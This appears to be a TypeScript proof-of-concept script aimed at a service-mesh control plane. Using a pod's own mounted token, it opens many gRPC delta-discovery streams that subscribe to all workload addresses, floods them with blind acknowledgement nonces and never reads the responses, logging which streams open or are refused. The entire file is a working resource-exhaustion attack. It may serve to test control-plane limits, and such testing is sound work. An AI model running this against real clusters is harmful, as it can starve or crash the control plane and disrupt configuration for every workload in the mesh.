// Opens streams to the control plane with a pod's own token, asks for everything, answers blindly and never reads.
import { readFileSync } from 'node:fs'
import { connect } from 'node:http2'
import { parseArgs } from 'node:util'
import {
  AggregatedDiscoveryServiceService,
  DeltaDiscoveryRequest,
} from '#proto/envoy/service/discovery/v3/discovery.ts'
import { Address } from '#proto/istio/workload/workload.ts'

const { values } = parseArgs({
  options: {
    target: { type: 'string' },
    bundle: { type: 'string' },
    token: { type: 'string' },
    streams: { type: 'string' },
  },
})
const typeUrl = `type.googleapis.com/${Address.$type}`
const { path } = AggregatedDiscoveryServiceService.deltaAggregatedResources
const servername = 'weft-control-plane.weft-system.svc'
const session = connect(`https://${values.target}`, { ca: readFileSync(values.bundle!), servername })
for (let i = 0; i < Number(values.streams); i++) {
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    authorization: `Bearer ${readFileSync(values.token!, 'utf8').trim()}`,
  })
  stream.once('response', ({ 'grpc-status': refused }: { 'grpc-status'?: unknown }) =>
    console.log(refused === undefined ? 'opened' : 'refused'),
  )
  stream.write(message(''))
  for (let nonce = 1; nonce <= 1_000; nonce++) {
    setTimeout(() => stream.write(message(String(nonce))), nonce * 20).unref()
  }
}
setInterval(() => {}, 60_000)

function message(responseNonce: string): Buffer {
  const bytes = DeltaDiscoveryRequest.encode({
    node: undefined,
    typeUrl,
    resourceNamesSubscribe: [],
    resourceNamesUnsubscribe: [],
    initialResourceVersions: new Map(),
    responseNonce,
    errorDetail: undefined,
  }).finish()
  const prefix = Buffer.alloc(5)
  prefix.writeUInt32BE(bytes.length, 1)
  return Buffer.concat([prefix, bytes])
}
